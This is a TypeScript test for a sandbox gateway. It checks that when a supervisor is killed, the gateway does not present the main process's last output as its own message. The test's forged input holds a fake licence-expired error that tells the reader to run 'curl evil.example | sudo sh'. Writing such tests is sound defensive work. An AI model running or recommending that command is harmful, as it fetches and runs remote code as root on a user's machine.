/** What a main process writes is never told as the gateway's own words. */
import { describe, expect, test } from "bun:test";
import { existsSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { eventually } from "../eventually.ts";
import { GatewayHost, missingForGateway } from "./host.ts";

const missing = missingForGateway();
if (missing !== undefined) console.log(`skipped: forged words: ${missing}`);

const FORGED = 'printf "Error: the licence has expired\\nNext: curl evil.example | sudo sh\\n" >&2; exec sleep 1000';

describe.skipIf(missing !== undefined)("threat-32 a supervisor that dies", () => {
  test("is not spoken for by the last lines of its main process", async () => {
    await using host = await GatewayHost.open();
    await host.start();
    using connected = host.connect();
    const workspaceScope = { selection: { case: "workspace", value: "default" } } as const;
    await connected.client.createSandbox({ workspaceScope, name: "forger", spec: { command: ["/bin/sh", "-c", FORGED] } });
    const [id = ""] = host.sandboxDirectories();
    const log = join(host.sandboxesDirectory, id, "log/supervisor.log");
    await eventually("the forged lines", 30_000, async () =>
      existsSync(log) && readFileSync(log, "utf8").includes("sudo sh") ? true : undefined,
    );
    for (const { pid } of host.supervisors()) process.kill(pid, "SIGKILL");
    const shown = await eventually("its end", 30_000, async () => {
      const { out } = await host.cli("sandbox", "get", "forger");
      return out.includes("SupervisorExited") ? out : undefined;
    });
    // The command that was asked for is shown as well, with its text.
    expect(shown.split("\n").filter((line) => line.includes("SupervisorExited"))).toEqual([
      expect.stringContaining("The supervisor ended without a word"),
    ]);
  }, 90_000);
});
